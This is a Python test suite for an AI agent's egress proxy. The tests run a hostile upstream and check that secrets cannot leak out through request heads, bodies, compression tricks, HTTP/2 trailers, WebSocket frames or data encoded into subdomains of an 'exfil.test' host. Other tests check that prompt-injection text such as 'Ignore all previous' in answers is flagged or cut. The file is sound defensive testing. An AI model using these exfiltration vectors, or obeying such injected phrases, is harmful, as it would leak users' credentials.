"""Every leak the adversarial review found, closed: the real launcher and real pipelock on
loopback, and a hostile HTTPS upstream that records every byte it receives and tries to
hand the injected credential back (tests/support/hostile_upstream.py)."""

from __future__ import annotations

import base64
import gzip
import json
import os
import socket
import ssl
import time

import h2.config
import h2.connection
import h2.events
import pytest

from bottle.mitm.policy import AllowRule, Route
from tests.support.loopback import AWS_KEY, PLACEHOLDER, REAL_TOKEN, Loopback, read_head, recv_or_empty

pytestmark = pytest.mark.needs_pipelock

SECRET_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
ALLOW = [
    AllowRule(id="egress.allow[0]", host="localhost", methods=None, paths=("/stream",), ports=(),
              private_upstream=True, scan_body=False),
    AllowRule(id="egress.allow[1]", host="localhost", methods=None, paths=None, ports=(),
              private_upstream=True, scan_body=True),
    AllowRule(id="egress.allow[2]", host="*.exfil.test", methods=None, paths=None, ports=(),
              private_upstream=True, scan_body=True),
]
ROUTES = [
    Route(id="egress.routes[0]", host="localhost", methods=None, paths=("/reflect", "/ws"), scheme="bearer",
          header=None, username=None, token_ref="LOOPBACK_TOKEN"),
]
BEARER = f"Authorization: Bearer {PLACEHOLDER}\r\n"


@pytest.fixture(scope="module")
def lb(tmp_path_factory):
    loopback = Loopback(tmp_path_factory.mktemp("leaks"), upstream="hostile", allow=ALLOW, routes=ROUTES,
                        max_body_bytes=1024 * 1024)
    try:
        loopback.start()
        yield loopback
    finally:
        loopback.stop()


def get(path: str, *headers: str, method: str = "GET", body: bytes = b"") -> bytes:
    head = f"{method} {path} HTTP/1.1\r\nHost: {{authority}}\r\n" + "".join(f"{h}\r\n" for h in headers)
    if body:
        head += f"Content-Length: {len(body)}\r\n"
    return head.encode() + b"Connection: close\r\n\r\n" + body


def never_received(lb: Loopback, *needles: str) -> None:
    """Neither the wire nor any decoded request, stream or frame upstream holds these."""
    raw = lb.upstream_received()
    records = json.dumps(lb.upstream_records())
    for needle in needles:
        assert needle.encode() not in raw, f"{needle!r} reached the upstream"
        assert needle not in records, f"{needle!r} reached the upstream"


def never_logged(lb: Loopback, *needles: str) -> None:
    log = lb.proxy_log.read_text()
    for needle in needles:
        assert needle not in log, f"{needle!r} is in the proxy's log"


def last_line(lb: Loopback, predicate=lambda line: True) -> dict:
    lines = lb.wait_proxy_lines(predicate, 1)
    assert lines, lb.proxy_log.read_text()[-2000:]
    return lines[-1]


# -- High: absolute-form request targets --------------------------------------------------


def test_an_absolute_form_target_naming_another_host_is_refused_with_421(lb):
    status, _, body = lb.raw_http1(get("https://other.example/reflect", BEARER.strip()))
    assert status == 421
    assert body.startswith(b"bottle: blocked: misdirected request: the request names other.example:443")
    assert not [r for r in lb.upstream_records() if "other.example" in json.dumps(r)]
    never_received(lb, REAL_TOKEN, "other.example")
    line = last_line(lb, lambda l: l["status"] == 421)
    assert (line["host"], line["decision"]) == ("other.example", "block")


def test_an_absolute_form_target_naming_the_tunnel_goes_upstream_in_origin_form(lb):
    status, _, body = lb.raw_http1(get(f"https://localhost:{lb.upstream_port}/hello?q=1"))
    assert (status, body) == (200, b"ok")
    (sent,) = [r for r in lb.upstream_records() if r.get("target", "").startswith("/hello")]
    assert sent["target"] == "/hello?q=1"


def h2_request(lb: Loopback, headers: list[tuple[str, str]], body: bytes = b"",
               trailers: list[tuple[str, str]] | None = None, path_check: bool = True, want_trailers: bool = False):
    """One HTTP/2 request through the proxy; (status, body) or, with want_trailers,
    (status, body, response trailers). RST_STREAM or GOAWAY gives status 0."""
    sock = lb.tunnel(alpn=("h2",))
    sock.settimeout(15)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8",
                                                                validate_outbound_headers=path_check))
    conn.initiate_connection()
    conn.send_headers(1, headers, end_stream=not body and not trailers)
    if body:
        conn.send_data(1, body, end_stream=not trailers)
    if trailers:
        conn.send_headers(1, trailers, end_stream=True)
    sock.sendall(conn.data_to_send())
    status, data, received_trailers = 0, b"", {}
    try:
        while chunk := recv_or_empty(sock):
            for event in conn.receive_data(chunk):
                if isinstance(event, h2.events.ResponseReceived):
                    status = int(dict(event.headers)[":status"])
                elif isinstance(event, h2.events.DataReceived):
                    data += event.data
                    conn.acknowledge_received_data(event.flow_controlled_length, 1)
                elif isinstance(event, h2.events.TrailersReceived):
                    received_trailers = dict(event.headers)
                elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset, h2.events.ConnectionTerminated)):
                    return (status, data, received_trailers) if want_trailers else (status, data)
            sock.sendall(conn.data_to_send())
    finally:
        sock.close()
    return (status, data, received_trailers) if want_trailers else (status, data)


def h2_headers(lb: Loopback, path: str, method: str = "GET", extra=()) -> list[tuple[str, str]]:
    return [(":method", method), (":scheme", "https"), (":authority", f"localhost:{lb.upstream_port}"),
            (":path", path), *extra]


def test_an_http2_path_that_is_an_absolute_uri_is_refused_with_421(lb):
    status, body = h2_request(lb, h2_headers(lb, "https://other.example/reflect",
                                             extra=[("authorization", f"Bearer {PLACEHOLDER}")]), path_check=False)
    assert status == 421
    assert b"not origin-form" in body
    never_received(lb, REAL_TOKEN, "other.example")


# -- Medium: parts of a request the scanner never saw ------------------------------------


@pytest.mark.parametrize("request_bytes", [
    pytest.param(get("/echo", f"X-{AWS_KEY}: 1"), id="header-name"),
    pytest.param(get("/echo", method=AWS_KEY), id="method"),
    pytest.param(get(f"/echo?{AWS_KEY}"), id="query-without-equals"),
    pytest.param(get(f"/echo/{AWS_KEY}"), id="path-segment"),
])
def test_a_secret_in_the_request_head_is_blocked_and_never_logged(lb, request_bytes):
    status, _, body = lb.raw_http1(request_bytes)
    assert status == 403, body
    assert b"scanner found" in body and b"AWS Access ID" in body
    never_received(lb, AWS_KEY)
    never_logged(lb, AWS_KEY)


def multipart(parts: bytes, boundary: str = "XyZ", extra_param: str = "") -> tuple[str, bytes]:
    return f"multipart/form-data; boundary={boundary}{extra_param}", parts


BODY_VECTORS = [
    pytest.param("application/json", f'{{"k": "\\u0041{AWS_KEY[1:]}", "k": "x"}}'.encode(), id="json-duplicate-key"),
    pytest.param("application/json", json.dumps({"a": AWS_KEY[:10], "b": AWS_KEY[10:]}).encode(),
                 id="json-split-across-fields"),
    pytest.param("application/json", b'{"k": "\\u0041KIAIOSFODNN7EXAMPLE"}', id="json-escaped"),
    pytest.param(*multipart(f"preamble {AWS_KEY}\r\n--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n"
                            "--XyZ--\r\n".encode()), id="multipart-preamble"),
    pytest.param(*multipart(f"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--XyZ--\r\n"
                            f"epilogue {AWS_KEY}".encode()), id="multipart-epilogue"),
    pytest.param(*multipart(f"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\nX-Note: {AWS_KEY}\r\n\r\nx\r\n"
                            "--XyZ--\r\n".encode()), id="multipart-part-header"),
    pytest.param(*multipart(f"--XyZ\r\nContent-Disposition: form-data; name=\"a\"; note=\"{AWS_KEY}\"\r\n\r\nx\r\n"
                            "--XyZ--\r\n".encode()), id="multipart-part-parameter"),
    pytest.param(*multipart(f"--Other\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n{AWS_KEY}\r\n"
                            "--Other--\r\n".encode(), extra_param="; boundary=Other"), id="multipart-second-boundary"),
    pytest.param(*multipart(b"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n"
                            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(AWS_KEY.encode())
                            + b"\r\n--XyZ--\r\n"), id="multipart-base64-part"),
    pytest.param(*multipart(b"--XyZ\r\nContent-Disposition: form-data; name=\"a\"\r\n"
                            b"Content-Type: text/plain; charset=utf-16\r\n\r\n" + AWS_KEY.encode("utf-16")
                            + b"\r\n--XyZ--\r\n"), id="multipart-charset-part"),
    pytest.param("application/x-www-form-urlencoded",
                 b"v=" + base64.b64encode(f"key={AWS_KEY}".encode()), id="form-base64-value"),
]


@pytest.mark.parametrize("content_type, body", BODY_VECTORS)
def test_a_secret_anywhere_in_a_body_is_blocked_before_upstream(lb, content_type, body):
    status, _, answer = lb.raw_http1(get("/echo", f"Content-Type: {content_type}", method="POST", body=body))
    assert status in (403, 415), answer
    never_received(lb, AWS_KEY)
    never_logged(lb, AWS_KEY)


@pytest.mark.parametrize("body, status", [
    pytest.param(gzip.compress(b"harmless ") + gzip.compress(AWS_KEY.encode()), 403, id="second-gzip-member"),
    pytest.param(gzip.compress(b"harmless") + AWS_KEY.encode(), 415, id="bytes-after-the-gzip-end"),
])
def test_every_byte_of_a_compressed_body_is_scanned_or_refused(lb, body, status):
    got, _, answer = lb.raw_http1(get("/echo", "Content-Type: text/plain", "Content-Encoding: gzip",
                                      method="POST", body=body))
    assert got == status, answer
    never_received(lb, AWS_KEY)


def test_http2_request_trailers_are_scanned_before_they_go(lb):
    status, _ = h2_request(lb, h2_headers(lb, "/echo", "POST", [("content-type", "text/plain")]),
                           body=b"harmless", trailers=[("x-trailer", AWS_KEY)])
    assert status == 403
    never_received(lb, AWS_KEY)


def test_trailers_of_a_streamed_body_with_a_secret_cut_the_request_off(lb):
    status, _ = h2_request(lb, h2_headers(lb, "/stream", "POST"), body=b"x" * 1000,
                           trailers=[("x-trailer", AWS_KEY)])
    assert status == 0  # reset: no answer
    never_received(lb, AWS_KEY)
    line = last_line(lb, lambda l: l["path"] == "/stream")
    assert (line["decision"], line["scanner"]) == ("block", ["DLP-AWS Access ID"])


class WebSocket:
    def __init__(self, lb: Loopback, path: str = "/ws", *headers: str) -> None:
        self.sock = lb.tunnel()
        self.sock.settimeout(10)
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall((f"GET {path} HTTP/1.1\r\nHost: localhost:{lb.upstream_port}\r\nUpgrade: websocket\r\n"
                           f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n"
                           + "".join(f"{h}\r\n" for h in headers) + "\r\n").encode())
        self.head = read_head(self.sock)
        self.reader = self.sock.makefile("rb")

    def send(self, opcode: int, data: bytes) -> None:
        mask = os.urandom(4)
        self.sock.sendall(bytes([0x80 | opcode, 0x80 | len(data)]) + mask
                          + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))

    def recv(self) -> tuple[int, bytes]:
        first, second = self.reader.read(2)
        return first & 0x0F, self.reader.read(second & 0x7F)


def test_websocket_control_frames_carry_no_secret_upstream(lb):
    ws = WebSocket(lb, "/ws")
    ws.recv(), ws.recv()  # the upstream's greeting and ping
    ws.send(0x9, f"ping {AWS_KEY}".encode())
    ws.send(0xA, f"pong {AWS_KEY}".encode())
    ws.send(0x8, (1000).to_bytes(2, "big") + f"bye {AWS_KEY}".encode())
    deadline = time.monotonic() + 5
    while not [r for r in lb.upstream_records() if r.get("opcode") == 8] and time.monotonic() < deadline:
        time.sleep(0.05)
    frames = [(r["opcode"], r["payload"]) for r in lb.upstream_records() if r.get("kind") == "ws"]
    assert (9, "") in frames and (10, "") in frames and (8, "") in frames, frames
    never_received(lb, AWS_KEY)


# -- Medium: the real credential handed back to the agent ---------------------------------


@pytest.mark.parametrize("path", ["/reflect-reason", "/reflect-header-name"])
def test_a_reflected_credential_reaches_the_agent_only_as_its_placeholder(lb, path):
    status, head, body = lb.raw_http1(get(path, BEARER.strip()))
    assert status == 200
    assert REAL_TOKEN.encode() not in head + body
    assert PLACEHOLDER.encode() in head + body
    (sent,) = [r for r in lb.upstream_records() if r.get("target") == path][-1:]
    assert sent["headers"]["authorization"] == f"Bearer {REAL_TOKEN}"  # upstream did get the real one


def test_a_credential_reflected_in_http2_response_trailers_reaches_the_agent_as_the_placeholder(lb):
    status, body, trailers = h2_request(lb, h2_headers(lb, "/reflect-trailer",
                                                       extra=[("authorization", f"Bearer {PLACEHOLDER}")]),
                                        want_trailers=True)
    assert (status, body) == (200, b"ok")
    assert trailers == {"x-echo": PLACEHOLDER}


def test_a_credentialed_answer_with_a_transfer_coding_is_refused(lb):
    status, head, body = lb.raw_http1(get("/reflect-te-gzip", BEARER.strip()))
    assert status == 502
    assert b"transfer coding" in body and REAL_TOKEN.encode() not in head + body


def test_server_websocket_messages_and_control_frames_carry_the_placeholder_not_the_credential(lb):
    ws = WebSocket(lb, "/ws", f"Authorization: Bearer {PLACEHOLDER}")
    assert ws.head.split(b" ")[1] == b"101"
    greeting, ping = ws.recv(), ws.recv()
    assert greeting == (0x1, f"your credential is {PLACEHOLDER}".encode())
    assert ping == (0x9, b"")  # a payload longer than a heartbeat id is emptied
    ws.send(0x8, (1000).to_bytes(2, "big"))
    opcode, close = ws.recv()
    assert opcode == 0x8 and REAL_TOKEN.encode() not in close


# -- Lower ---------------------------------------------------------------------------------


def test_a_declared_body_over_the_limit_is_refused_and_the_connection_closed_without_buffering(lb):
    before = lb.rss_high_water_kb()
    sock = lb.tunnel()
    sock.settimeout(20)
    sock.sendall(b"POST /echo HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\n"
                 b"Content-Length: 629145600\r\n\r\n")
    sent, chunk = 0, b"x" * 65536
    try:
        while sent < 64 * 1024 * 1024:
            sock.sendall(chunk)
            sent += len(chunk)
    except (ConnectionError, ssl.SSLError, TimeoutError):
        pass
    answer = b""
    while data := recv_or_empty(sock):
        answer += data
    sock.close()
    assert sent < 64 * 1024 * 1024, "the proxy kept reading a refused body"
    assert answer.startswith(b"HTTP/1.1 413")
    assert lb.rss_high_water_kb() - before < 32 * 1024
    line = last_line(lb, lambda l: l["status"] == 413)
    assert line["decision"] == "block"


def test_a_chunked_body_over_the_limit_is_cut_off_while_it_arrives(lb):
    sock = lb.tunnel()
    sock.settimeout(20)
    sock.sendall(b"POST /echo HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\n"
                 b"Transfer-Encoding: chunked\r\n\r\n")
    sent, chunk = 0, b"10000\r\n" + b"x" * 65536 + b"\r\n"
    try:
        while sent < 64 * 1024 * 1024:
            sock.sendall(chunk)
            sent += 65536
    except (ConnectionError, ssl.SSLError, TimeoutError):
        pass
    sock.close()
    assert sent < 64 * 1024 * 1024, "the proxy kept buffering a chunked body past the limit"


@pytest.mark.parametrize("request_bytes", [
    pytest.param(get("/echo", "Content-Type: text/plain", method="POST", body=f"my key is {PLACEHOLDER}".encode()),
                 id="in-a-body"),
    pytest.param(get("/echo?k=" + "".join(f"%{b:02X}" for b in PLACEHOLDER.encode())), id="percent-encoded-url"),
])
def test_a_placeholder_off_its_route_is_refused(lb, request_bytes):
    status, _, body = lb.raw_http1(request_bytes)
    assert status == 403
    assert b"credential placeholder for LOOPBACK_TOKEN sent outside its route egress.routes[0]" in body
    never_received(lb, PLACEHOLDER)


def test_a_placeholder_in_a_streamed_body_cuts_the_stream_before_it_goes(lb):
    status, _, _ = lb.raw_http1(get("/stream", "Content-Type: application/octet-stream", method="POST",
                                    body=b"a" * 5000 + PLACEHOLDER.encode() + b"b" * 5000))
    assert status != 200
    never_received(lb, PLACEHOLDER)


def test_a_host_name_under_a_wildcard_that_carries_encoded_data_is_refused(lb):
    with pytest.raises(ConnectionRefusedError) as refused:
        lb.tunnel(AWS_KEY.encode().hex() + ".exfil.test")
    assert "403" in str(refused.value)
    line = last_line(lb, lambda l: l["method"] == "CONNECT")
    assert "looks like encoded data" in line["reason"]
    assert AWS_KEY.encode().hex() not in lb.proxy_log.read_text()
    # A name is a name: the policy lets it through, and it then has nowhere to resolve to
    # (the proxy connects upstream as soon as the tunnel is asked for).
    with pytest.raises(ConnectionRefusedError) as unreachable:
        lb.tunnel("docs.exfil.test")
    assert str(unreachable.value).startswith("HTTP/1.1 502")


def test_a_misdirected_request_logs_the_host_it_named(lb):
    status, _, _ = lb.raw_http1(b"GET / HTTP/1.1\r\nHost: elsewhere.test\r\nConnection: close\r\n\r\n")
    assert status == 421
    line = last_line(lb, lambda l: l["status"] == 421 and l["path"] == "/")
    assert line["host"] == "elsewhere.test"


# -- Also: prompt injection in answers ------------------------------------------------------


def sse_arrivals(lb: Loopback, path: str) -> list[tuple[float, bytes]]:
    with lb.tunnel() as sock:
        sock.settimeout(15)
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost:{lb.upstream_port}\r\nConnection: close\r\n\r\n"
                     .encode())
        arrivals = []
        while chunk := recv_or_empty(sock):
            arrivals.append((time.monotonic(), chunk))
    return arrivals


def test_an_injection_in_an_event_stream_is_logged_and_the_events_stream_on_in_warn_mode(lb):
    arrivals = sse_arrivals(lb, "/inject-sse")
    received = b"".join(chunk for _, chunk in arrivals)
    assert b"data: hello" in received and b"Ignore all previous" in received and b"after the injection" in received
    assert arrivals[-1][0] - arrivals[0][0] > 0.8  # events arrived as they were sent, not buffered
    line = last_line(lb, lambda l: l["path"] == "/inject-sse")
    assert (line["decision"], line["answer_scanner"]) == ("allow", ["INJ-Prompt Injection"])
    assert line["reason"].startswith("warning: the answer carries INJ-Prompt Injection")


@pytest.fixture(scope="module")
def blocking(tmp_path_factory):
    loopback = Loopback(tmp_path_factory.mktemp("answers"), upstream="hostile", allow=ALLOW, routes=ROUTES,
                        responses="block")
    try:
        loopback.start()
        yield loopback
    finally:
        loopback.stop()


def test_block_mode_cuts_an_event_stream_at_the_injection(blocking):
    received = b"".join(chunk for _, chunk in sse_arrivals(blocking, "/inject-sse"))
    assert b"data: hello" in received
    assert b"after the injection" not in received
    line = last_line(blocking, lambda l: l["path"] == "/inject-sse")
    assert (line["decision"], line["answer_scanner"]) == ("block", ["INJ-Prompt Injection"])


def test_block_mode_replaces_a_text_answer_carrying_an_injection(blocking):
    status, _, body = blocking.raw_http1(get("/inject-json"))
    assert status == 502
    assert body.startswith(b"bottle: blocked: the answer carries INJ-Prompt Injection")
    assert b"Ignore all previous" not in body
